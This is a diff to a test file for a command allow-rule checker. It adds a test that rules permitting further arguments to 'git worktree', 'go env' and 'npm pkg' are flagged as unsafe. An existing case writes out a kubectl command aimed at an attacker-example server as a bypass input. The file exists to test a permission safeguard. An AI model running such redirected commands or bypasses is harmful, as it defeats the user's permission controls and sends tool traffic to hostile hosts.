@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { matchingAllowRule } from '../../../../src/core/tools/commandAllowRules';
+import { allowRuleProblem, matchingAllowRule } from '../../../../src/core/tools/commandAllowRules';
 
 // Attacks on the promise of docs/security.md §4.2: a rule ending in `...` allows further arguments "that neither write files,
 // read configuration, run another program nor name another build target". Each case: a rule a user plausibly writes for a
@@ -77,6 +77,13 @@ describe('attack: further arguments under a rule ending in ...', () => {
       ['kubectl get ...', ['kubectl', 'get', 'pods', '-s', 'https://attacker.example']],
     ];
     assert.deepEqual(unaskedOf(cases), []);
+  });
+
+  it('rules to read a worktree list, the go environment or a package\'s fields take no further arguments (they change them)', () => {
+    for (const rule of [['git', 'worktree', '...'], ['go', 'env', '...'], ['npm', 'pkg', '...']]) {
+      assert.match(allowRuleProblem(rule) ?? '', /further arguments to .* can write files, run other programs or change its configuration/, rule.join(' '));
+    }
+    assert.equal(allowRuleProblem(['go', 'env', 'GOPATH']), undefined, 'an exact command stays allowed');
   });
 
   it('npm pkg set does not write package.json under a rule meant for npm pkg get', () => {
